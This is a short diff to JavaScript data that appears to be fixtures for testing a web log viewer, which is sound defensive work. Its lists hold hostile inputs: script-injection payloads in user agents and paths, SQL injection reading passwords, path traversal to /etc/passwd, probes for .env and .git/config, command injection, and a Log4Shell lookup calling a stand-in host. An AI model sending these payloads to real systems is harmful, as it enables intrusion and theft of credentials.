@@ -10,7 +10,7 @@ const agents = [
   "Mozilla/5.0 (compatible; <img src=x onerror=alert(1)>bot/1.0)",
 ];
 const person = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0";
-const pages = ["/", "/articles/privacy", "/articles/logs", "/robots.txt", "/<img src=x onerror=alert(2)>", "/'><script>alert(3)</script>", "/feed.xml", "/tariffs"];
+const pages = ["/", "/articles/privacy", "/articles/logs", "/robots.txt", "/<img src=x onerror=alert(2)>", "/'><script>alert(3)</script>", "/feed.xml", "/<b>tariffs</b>"];
 const attacks = [
   "/item?id=1%27%20UNION%20SELECT%20password%20FROM%20users--%20", "/?q=%3Cscript%3Ealert(4)%3C/script%3E", "/../../../../etc/passwd", "/.env", "/.git/config",
   "/wp-login.php", "/?x=${jndi:ldap://203.0.113.9/a}", "/cgi-bin/test?c=;cat%20/etc/passwd", "/admin/", "/phpmyadmin/index.php",
